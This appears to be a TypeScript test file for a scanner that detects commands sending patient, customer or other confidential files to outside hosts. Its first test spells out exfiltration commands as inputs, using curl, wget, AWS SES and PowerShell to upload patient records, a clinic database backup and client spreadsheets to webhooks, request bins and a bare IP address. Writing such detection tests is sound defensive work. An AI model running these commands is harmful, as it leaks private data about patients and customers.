import { test } from 'node:test';
import assert from 'node:assert/strict';
import { scanCode } from './index.js';

const kinds = (c: string) => scanCode(c).map((f) => f.kind);

test('a sending command that names a people-data or confidential file, however it reaches it', () => {
  assert.ok(kinds('for f in patients/*.json; do curl -s -X POST -d @"$f" https://hooks.zapier.com/hooks/catch/1/x/; done').includes('file_sent'));
  assert.ok(kinds("csvcut -c name,phone patients.csv | curl -s -X POST --data-binary @- https://api.smsblast.io/v1/import").includes('file_sent'));
  assert.ok(kinds('aws ses send-email --from a@b.app --to press@news.com --text "$(head -50 exports/users_with_emails.csv)"').includes('file_sent'));
  assert.ok(kinds('wget -q --post-file=/var/backups/clinic_2024-11-10.sql http://203.0.113.45:8080/upload').includes('file_sent'));
  assert.ok(kinds('pwsh -c Invoke-WebRequest -Uri https://requestbin.io/x -Method POST -InFile C:\\Users\\ana\\clientes_2026.xlsx').includes('file_sent'));
});

test('sending other files, or people-data files to this machine, is not', () => {
  assert.deepEqual(kinds('curl -s -X POST https://api.github.com/repos/acme/site/issues -d @issue.json'), []);
  assert.deepEqual(kinds('curl -s -X POST http://localhost:8080/import -d @customers.json'), []);
  assert.deepEqual(kinds('curl -s -F file=@dist/site.zip https://api.netlify.com/api/v1/sites/x/deploys'), []);
});
